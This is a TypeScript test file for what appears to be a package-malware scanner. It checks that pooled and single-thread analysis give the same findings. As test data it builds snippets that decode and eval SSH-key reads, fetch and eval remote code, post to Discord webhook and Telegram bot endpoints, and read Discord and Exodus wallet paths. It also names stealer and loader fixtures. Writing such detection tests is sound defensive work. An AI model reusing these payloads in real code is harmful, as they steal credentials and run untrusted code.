import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { bundledPeLauncher, obfuscatedSetupPy, remoteLoader, windowsStealer, writeFixtureArchive, type FixtureFiles } from './__fixtures__/imitation.js';
import { readHead } from './archive.js';
import { RecordingCollector, analyzeFile, tokenFreeFile } from './file-analysis.js';
import { staticPass, type StaticPassInput } from './pass.js';
import { sharedFilePool } from './pool.js';

/**
 * The pass analyzes a closure's files on pool threads ahead of their turn and settles token-free
 * files without parsing: neither may change what it finds. Both are compared here with the plain
 * one-thread, parse-everything reading of the same files.
 */

let dir = '';
// The pool is opt-in (VETBOX_STATIC_THREADS): this file turns it on before anything asks for it.
process.env.VETBOX_STATIC_THREADS ??= '1';
beforeAll(async () => {
  dir = await mkdtemp(path.join(os.tmpdir(), 'vetbox-pool-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

const b64 = (s: string) => Buffer.from(s, 'utf8').toString('base64');

/** An npm package whose closure is many files, several large, with payloads spread through it. */
async function spreadPackage(): Promise<string> {
  const pkg = path.join(dir, 'spread');
  await mkdir(path.join(pkg, 'lib'), { recursive: true });
  const filler = (i: number) => `exports.f${i}=function(a){return Object.keys(a).map(function(k){return a[k]+${i}}).join(",")};\n`;
  const files: Record<string, string> = { 'package.json': JSON.stringify({ name: 'spread', version: '1.0.0', main: 'index.js' }) };
  const requires: string[] = [];
  for (let i = 0; i < 24; i++) {
    const large = i % 6 === 0;
    const lines = Array.from({ length: large ? 2400 : 20 }, (_, j) => filler(j));
    const payload = [
      `eval(Buffer.from('${b64('require("fs").readFileSync(process.env.HOME + "/.ssh/id_rsa")')}', 'base64').toString());\n`,
      `require('https').get('https://cdn.loader.example/x.js', (r) => { let s = ''; r.on('data', (c) => (s += c)); r.on('end', () => eval(s)); });\n`,
      `const hook = 'https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz';\n`,
      '',
    ][i % 4]!;
    files[`lib/m${i}.js`] = [...lines.slice(0, lines.length / 2), payload, ...lines.slice(lines.length / 2)].join('');
    requires.push(`require('./lib/m${i}');`);
  }
  files['index.js'] = `${requires.join('\n')}\n`;
  for (const [f, text] of Object.entries(files)) await writeFile(path.join(pkg, f), text);
  return pkg;
}

async function both(input: StaticPassInput) {
  const strip = ({ durationMs: _d, ...r }: Awaited<ReturnType<typeof staticPass>>) => r;
  return { pooled: strip(await staticPass(input)), alone: strip(await staticPass({ ...input, threads: false })) };
}

describe('the static pass on pool threads', () => {
  it('finds exactly what one thread finds, in the same order, on a closure of many files', async () => {
    const pool = sharedFilePool();
    expect(pool, 'the pool this file asked for').toBeDefined();
    // Started and answering, as in a long-lived worker (the first pass of a process may find it still loading).
    await pool!.readHeads(dir, []);
    const before = pool!.completed;
    const { pooled, alone } = await both({ ecosystem: 'npm', name: 'spread', packageDir: await spreadPackage() });
    expect(pool!.broken).toBeUndefined();
    expect(pool!.completed).toBeGreaterThan(before);
    expect(alone.signals.map((s) => s.kind), JSON.stringify(alone.signals.map((s) => s.kind))).toEqual(expect.arrayContaining(['exec-decoded', 'exec-fetched', 'exfil-endpoint', 'credential-path']));
    expect(pooled).toEqual(alone);
  });

  it('reads the heads of a directory\'s files as this thread does (executables are found by them)', async () => {
    const pkg = await spreadPackage();
    const files = ['package.json', 'index.js', 'lib/m0.js', 'lib/m1.js'];
    await writeFile(path.join(pkg, 'empty'), '');
    const heads = await sharedFilePool()!.readHeads(pkg, [...files, 'empty']);
    expect(heads.map((h) => h.toString('latin1'))).toEqual([...files, 'empty'].map((f) => readHead(path.join(pkg, f)).toString('latin1')));
    expect(heads.at(-1)!.length).toBe(0);
    await expect(sharedFilePool()!.readHeads(pkg, ['missing'])).rejects.toThrow(/ENOENT/);
  });

  it.each<[string, FixtureFiles, 'npm' | 'pypi']>([
    ['obfuscated setup.py', obfuscatedSetupPy(), 'pypi'],
    ['Windows stealer', windowsStealer(), 'pypi'],
    ['bundled PE launcher', bundledPeLauncher(), 'npm'],
    ['remote loader', remoteLoader(), 'pypi'],
  ])('the imitation fixture %s: the same result with and without the pool', async (_name, fx, ecosystem) => {
    const archivePath = await writeFixtureArchive(dir, fx, ecosystem);
    const { pooled, alone } = await both({ ecosystem, name: fx.name, archivePath });
    expect(alone.signals.length).toBeGreaterThan(0);
    expect(pooled).toEqual(alone);
  });
});

describe('files settled without parsing (no token any signal needs)', () => {
  it('never settles a file that raises a signal when parsed', () => {
    const budget = { deadline: Date.now() + 60_000, maxDepth: 6, maxSignals: 400, maxPerFileKind: 5 };
    const raising = [
      `eval(Buffer.from('${b64('console.log(1)')}', 'base64').toString())`,
      `new Function(atob('${b64('return 1')}'))()`,
      `require('vm').runInThisContext(require('zlib').inflateSync(Buffer.from('${require('node:zlib').deflateSync('1+1').toString('base64')}', 'base64')).toString())`,
      `const cp = require('child_process'); cp.spawn('./bin/x.exe')`,
      `function f() { require('https').get('https://x.example/a'); require('fs').chmodSync('./bin/x', 0o755); }`,
      `const p = require('path').join(require('os').homedir(), '.ssh/id_rsa')`,
      `const p = process.env.APPDATA + '\\\\discord\\\\Local Storage\\\\leveldb'`,
      `fetch('https://discord.com/api/webhooks/123456789012/abcdefghijklmnopqrstuvwxyz', { method: 'POST' })`,
      `fetch('https://api.telegram.org/bot123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw/sendMessage')`,
      `const w = '~/.config/Exodus/exodus.wallet'`,
      `var _0x1a2b=['a'],_0x3c4d=1,_0x5e6f=2,_0x7a8b=3,_0x9c0d=4,_0xab12=5,_0xcd34=6,_0xef56=7;`,
    ];
    for (const text of raising) {
      const out = new RecordingCollector(budget);
      const { result } = analyzeFile('index.js', text, out, budget);
      expect(out.calls.length + result.launches.length, `raises a signal or records a launch when parsed: ${text}`).toBeGreaterThan(0);
      expect(tokenFreeFile('index.js', text), `settled without parsing: ${text}`).toBeUndefined();
    }
  });

  it('settles a plain module with its imports, as parsing would', () => {
    const text = `const a = require('./a');\nimport b from './b.js';\nmodule.exports = () => a(b);\n`;
    expect(tokenFreeFile('index.js', text)?.result).toEqual({ imports: ['./a', './b.js'], launches: [], parsed: true });
    expect(tokenFreeFile('setup.py', 'import os\n')).toBeUndefined();
  });

  it('finds a token inside an import specifier, and none in names that only contain its letters', () => {
    for (const text of [`const cp = require('child_process');\n`, `import vm from "vm";\nimport cp from 'child_process';\n`, `require('./lib/wallet')\n`, `import m from './lib/tdata.js'\n`, `require( './a' );require('./eval')`]) {
      expect(tokenFreeFile('index.js', text), `settled without parsing: ${text}`).toBeUndefined();
    }
    expect(tokenFreeFile('index.js', `require('./evaluate');import x from './functions';export * from './spawner-like'`)).toBeUndefined();
    expect(tokenFreeFile('index.js', `require('./evaluate');import x from './functions'`)?.result.imports).toEqual(['./evaluate', './functions']);
  });
});
